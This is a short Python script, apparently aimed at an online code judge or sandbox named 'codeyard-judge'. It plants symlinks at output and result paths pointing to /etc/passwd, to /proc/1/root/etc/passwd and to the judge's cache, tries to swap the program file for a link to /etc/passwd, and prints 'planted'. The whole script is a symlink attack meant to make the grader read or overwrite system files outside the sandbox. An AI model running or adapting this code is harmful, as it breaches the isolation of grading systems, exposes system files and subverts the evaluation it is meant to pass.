import os
targets = {'/tmp/output': '/etc/passwd', '/tmp/stdout': '/proc/1/root/etc/passwd', '/dev/shm/result': '/var/cache/codeyard-judge'}
for link, target in targets.items():
    os.symlink(target, link)
try:
    os.symlink('/etc/passwd', '/box/program/main')
except OSError:
    pass
print('planted')
